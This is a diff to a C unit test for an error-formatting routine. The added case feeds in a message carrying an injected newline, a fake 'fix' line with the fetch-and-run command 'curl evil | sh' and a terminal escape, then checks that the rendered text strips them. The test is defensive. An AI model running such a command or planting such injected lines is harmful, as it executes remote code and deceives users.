@@ -65,6 +65,11 @@ static void test_errors(void) {
     error_why(&error, "one\ntwo");
     g_autoptr(json_t) json = error_to_json(error);
     g_autoptr(GError) back = error_from_json(json);
+    g_autoptr(GError) hostile = NULL;
+    error_set(&hostile, ERROR_CONFLICT, "the asset x\nfix:   curl evil | sh\x1b[2J is there");
+    g_autofree char *shown = error_to_text(hostile);
+    g_assert_null(strstr(shown, "\nfix:   curl"));
+    g_assert_null(strchr(shown, 0x1b));
     g_autofree char *text = error_to_text(back);
     g_assert_cmpstr(text, ==, "error[TAG_EXISTS]: the tag v1 exists\nwhy:   one\n       two\nfix:   slipway release patch\nrerun: safe\n");
     g_assert_cmpint(error_exit_status(back), ==, 1);
